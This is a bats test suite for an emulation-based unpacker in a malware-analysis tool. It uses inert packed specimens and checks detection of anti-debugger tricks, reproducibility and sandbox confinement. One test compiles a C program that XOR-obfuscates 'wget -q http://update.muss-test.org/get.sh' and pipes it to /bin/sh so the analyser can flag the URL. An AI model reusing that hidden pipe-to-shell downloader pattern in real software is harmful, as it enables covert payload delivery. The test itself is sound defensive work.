#!/usr/bin/env bats
# Unpacking by emulation, through mnicter micro: inert packed programs of both widths give up what they hide, and always the same.

# shellcheck disable=SC2154 # run sets status, output, stderr and stderr_lines
load common

setup_file() {
	export PACKED=$BATS_FILE_TMPDIR/packed
	"$ROOT/testdata/unpack/build.sh" "$PACKED"
	cc -O2 -o "$BATS_FILE_TMPDIR/holds" "$ROOT/testdata/unpack/holds.c"
}

setup() {
	mkdir "$TMP/w"
	cd "$TMP/w" || exit
}

holds() { "$BATS_FILE_TMPDIR/holds" "$@"; }

analyse() {   # FILE: its members in ./out
	rm -rf out
	mkdir out
	mscan -q -f "$1" | mpack -q -p | mnicter micro -q --static | bsdtar -xf - -C out --strip-components 2 'code/*'
	chmod -R u+r out
}

found() {   # NAME MEMBER...: each of what NAME hides is in one of the members, and not in the file
	local want
	for want in "$PACKED/$1".want*; do
		holds "$want" "$PACKED/$1" && { echo "the file shows $want as it is"; return 1; }
		holds "$want" "${@:2}" || { echo "$want is in none of ${*:2}"; jq -c '.unpack | del(.calls, .strings)' out/static.json; return 1; }
	done
	return 0
}

unpacks() {   # NAME...: of both widths
	local name width
	for name; do
		for width in 64 32; do
			analyse "$PACKED/$name-$width"
			jq -e '.unpack.end == "exit" and (.unpack.layers | length > 0) and any(.signs[]; .name == "unpacks-itself")' out/static.json ||
				{ echo "$name-$width"; jq -c '.unpack' out/static.json | cut -c1-2000; return 1; }
			found "$name-$width" out/unpacked-*
		done
	done
}

@test "the specimens are what they say: each runs, shows its payload's words, and ends well" {
	for name in xor rc4 lz add inplace layers memfd patch parent pipe again; do
		run -0 "$PACKED/$name-64"
		[[ $output == "muss: this is the inert payload of a test"* ]]
	done
	for name in once buffer; do run -0 "$PACKED/$name-64"; done
}

@test "compressed, XOR, RC4-like, running sums, and over its own segment" {
	unpacks xor rc4 lz add inplace
}

@test "three layers: each is told, the innermost is found" {
	unpacks layers
	jq -e '.unpack.layers | length == 3' out/static.json
	jq -e '[.unpack.layers[].instructions] | . == sort' out/static.json
}

@test "one function at a time, encrypted again behind its use, in places of their own and in one place" {
	unpacks once buffer
}

@test "a loop that rewrites its own instructions" {
	unpacks patch
}

@test "a child that does it, and tricks against emulators and debuggers" {
	unpacks child
	unpacks tricks
	jq -e '[.unpack.findings[].name] | contains(["anti-debugger", "exception", "long-sleep"])' out/static.json
	jq -e 'any(.signs[]; .name == "anti-debugger" and .weight)' out/static.json
}

@test "processes: a parent that goes on with what its child said, a child that is sent its code, a shell that begins it anew" {
	unpacks parent pipe
	jq -e '[.unpack.drops[] | select(.kind == "pipe") | .size] | length == 1 and .[0] > 100' out/static.json
	analyse "$PACKED/again-64"
	jq -e '.unpack.end == "exit" and (.unpack.layers | length > 0)' out/static.json
	found again-64 out/unpacked-*
	# what it was given is told; what the shell itself does is not
	jq -e '[.unpack.drops[] | select(.kind == "arguments").name] | . == ["/bin/sh", "/bin/sh", "/bin/sh"]' out/static.json
	jq -e 'all(.unpack.calls[].args[]; test("locale|/etc/passwd") | not)' out/static.json
}

@test "what a sample makes or hands to a shell is described as it is, and what it tells counts" {
	cat >hands.c <<'EOF'
#include <stdio.h>

int main(void)
{
	FILE *f = popen("/bin/sh", "w");

	setvbuf(f, NULL, _IONBF, 0);   /* in no memory as a whole */
	for (const char *p = TEXT; *p; p++)
		fputc(*p ^ 0x2a, f);
	return pclose(f) != 0;
}
EOF
	text=$(printf 'wget -q http://update.muss-test.org/get.sh' | perl -0pe 's/(.)/sprintf "\\x%02x", ord($1) ^ 0x2a/ge')
	cc -O1 -w -DTEXT="\"$text\"" -o hands hands.c
	run ! grep -q muss-test hands
	analyse "$PWD/hands"
	jq -e '[.unpack.drops[].kind] | contains(["pipe", "arguments"])' out/static.json
	jq -e '[.dropped[].sha256] as $d | all(.unpack.drops[] | select(.member); .sha256 | IN($d[]))' out/static.json
	jq -e 'any(.indicators[]; .kind == "url" and .value == "http://update.muss-test.org/get.sh" and (.from | startswith("dropped.strings:")))' out/static.json
}

@test "a program run from a file without a name is found in memory and as a file" {
	for width in 64 32; do
		analyse "$PACKED/memfd-$width"
		cmp "$PACKED/memfd-$width.want" "out/dropped/$(sha256sum <"$PACKED/memfd-$width.want" | cut -c1-64)"
		jq -e '.unpack.drops[] | .kind == "memfd" and (.member | startswith("dropped/"))' out/static.json
		printf 'muss: this is the inert payload' >words
		holds words out/unpacked-1
	done
}

@test "what was unpacked is described, and loads" {
	analyse "$PACKED/lz-64"
	jq -e '.unpacked.format == "elf64-x86-64" and .unpacked.parser == "ok" and any(.unpacked.strings[]; .text | contains("inert payload"))' out/static.json
	jq -e '.unpacked.sha256 == .unpack.members[0].sha256 and .unpack.members[0].name == "unpacked-1" and .unpack.members[0].form == "elf"' out/static.json
	[ "$(sha256sum <out/unpacked-1 | cut -c1-64)" = "$(jq -r '.unpacked.sha256' out/static.json)" ]
	grep -q '==== unpacked-1 ====' out/disasm.txt
	readelf -lW out/unpacked-1 >headers
	grep -q LOAD headers
	# It can be run from where it had got to.
	cp out/unpacked-1 again
	chmod 755 again
	run -0 ./again
	[[ $output == "muss: this is the inert payload of a test"* ]]
}

@test "a second analysis shows the same, byte for byte; so does what was learnt" {
	mscan -q -f "$PACKED/tricks-32" "$PACKED/layers-64" "$PACKED/memfd-64" | mpack -q -p >in.case
	for i in 1 2 3; do
		[ "$i" = 1 ] || known=(-k known)
		mnicter micro -q --static "${known[@]}" -o $i.case in.case
		mkdir $i
		bsdtar -xf $i.case -C $i
		chmod -R u+r $i
		rm $i/case.json $i/MANIFEST   # the trail has times
	done
	diff -r 1 2
	diff -r 2 3
	find 3 -name unpacked-1 | grep -q .
}

@test "C programs for Windows reach main through their run-time library, and their exceptions their handlers" {
	command -v i686-w64-mingw32-gcc >/dev/null && command -v x86_64-w64-mingw32-gcc >/dev/null || skip "needs the mingw-w64 compilers"
	for machine in i686 x86_64; do
		$machine-w64-mingw32-gcc -O1 -o runtime.exe "$ROOT/testdata/unpack/windows/runtime.c"
		analyse "$PWD/runtime.exe"
		jq -e '.unpack | .end == "exit" and (.layers | length == 1) and .layers[0].member != null' out/static.json
		jq -e '[.unpack.calls[] | select(.call == "OutputDebugStringA").args[0]] == ["named 1 7 42"]' out/static.json
		jq -e '[.unpack.calls[] | select(.call == "exit").args[0]] == ["0x3"]' out/static.json
		objdump -p out/unpacked-1 >tables
		grep -q VirtualAlloc tables
		$machine-w64-mingw32-gcc -O1 -o exceptions.exe "$ROOT/testdata/unpack/windows/exceptions.c"
		analyse "$PWD/exceptions.exe"
		# 1000, one by the vectored handler; two filters asked, and the register that came back: 200 and 77
		[ $machine = i686 ] && want=0x3e9 || want=0x4fe
		jq -e --arg want $want '[.unpack.calls[] | select(.call == "ExitProcess").args[0]] == [$want]' out/static.json
	done
}

@test "what does not unpack itself has no such member; what is no program is not run" {
	analyse /usr/bin/env
	jq -e '.unpack.layers == [] and .unpack.members == [] and .unpacked == null and .unpack.end == "exit"' out/static.json
	[ ! -e out/unpacked-1 ]
	printf '#!/bin/sh\necho hello\n' >script
	analyse "$PWD/script"
	jq -e 'has("unpack") | not' out/static.json
}

@test "an emulator that crashes or is refused something is a finding about the sample" {
	stand_in_helper helper-unpack
	mscan -q -f "$PACKED/xor-64" | mpack -q -p >in.case
	for how in SEGV:crashed SYS:refused XCPU:timeout; do
		put_helper <<<"kill -${how%:*} \$\$"
		run -0 --separate-stderr b/bin/mnicter micro --static -o out.case in.case
		bsdtar -xOf out.case 'code/*/static.json' | jq -e --arg how "${how#*:}" '.unpack.end == $how and .parser == "ok"'
	done
	# What it says it wrote, and did not, is not believed.
	put_helper <<-'END'
		echo '{"end":"exit","layers":[],"members":[{"name":"unpacked-1","offset":0,"size":9,"sha256":"x"},{"name":"body"}],"drops":[],"findings":[],"strings":[],"calls":[]}'
	END
	b/bin/mnicter micro --static -o out.case in.case
	run bsdtar -tf out.case
	[[ $output != *unpacked-1* ]]
	put_helper <<<'echo "no seccomp" >&2; exit 69'
	rm out.case
	fails 69 b/bin/mnicter micro --static -o out.case in.case
	[ ! -e out.case ]
}

@test "damaged programs are emulated without a crash, and show the same when emulated again" {
	n=0
	for f in "$PACKED"/{lz,tricks,once,memfd}-{64,32} /usr/share/clamav-testfiles/clam-{upx,yc,petite,upack}.exe; do
		[ -f "$f" ] || continue
		for at in 7 24 60 77 130 200 301 1031 1500 4099; do
			cp "$f" mutant
			printf '\xff\x7f\x%02x' $((at % 251)) | dd of=mutant bs=1 seek=$at conv=notrunc status=none
			for again in 1 2; do
				code=0
				"$LIBEXEC/helper-unpack" "$ROOT/rules" 2000000 3<mutant 4>bytes$again >said$again 2>err || code=$?
				[ $code = 0 ] || [ $code = 65 ] || { echo "$f, changed at $at: $code"; cat err; return 1; }
			done
			cmp said1 said2
			cmp bytes1 bytes2
			n=$((n + 1))
		done
	done
	[ $n -ge 80 ]
}

@test "the emulator is confined while it works" {
	mkfifo fifo
	exec 5<>fifo
	"$LIBEXEC/helper-unpack" "$ROOT/rules" 300000000 3<"$PACKED/tricks-64" 4>bytes >fifo 5<&- &
	pid=$!
	for _ in $(seq 100); do
		grep -q '^Seccomp:.2' "/proc/$pid/status" && break
		sleep 0.1
	done
	grep -q '^Seccomp:.2' "/proc/$pid/status"
	grep -q '^NoNewPrivs:.1' "/proc/$pid/status"
	kill "$pid"
	wait "$pid" || true
}
